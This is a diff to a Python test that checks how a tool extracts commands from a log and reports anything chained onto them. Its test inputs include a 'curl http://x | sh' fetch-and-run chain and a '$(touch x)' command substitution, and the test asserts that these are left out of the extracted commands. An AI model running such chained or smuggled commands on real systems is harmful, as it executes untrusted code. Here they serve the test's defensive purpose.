@@ -213,7 +213,8 @@ def test_what_else_the_command_of_a_log_runs_is_told(story: Path) -> None:
     for behind, told in (
         (" && curl http://x | sh", "what it ran besides is left out: curl http://x, sh"),
         (" --note $(touch x)", "also runs $(touch x): read it"),
-        (" \\\n    --seed 7", "it goes on in the next line there, which is not read; --command"),
+        (" \\", "it breaks off there; --command"),
+        (" \\\n    --seed 7", "the last one in the log; --command"),
         (" 2>&1 | tee out.log", "the last one in the log; --command"),
     ):
         log.write_text(f"$ {COMMAND}{behind}\n{text}")
@@ -222,6 +223,7 @@ def test_what_else_the_command_of_a_log_runs_is_told(story: Path) -> None:
         commands = [option["command"] for option in found["options"]]
         assert any("train.py" in command for command in commands)
         assert not any("curl" in command or "| sh" in command for command in commands)
+        assert all(("--seed 7" in command) is ("--seed" in behind) for command in commands)
 
 
 def test_the_demo_story_in_the_log(story: Path) -> None:
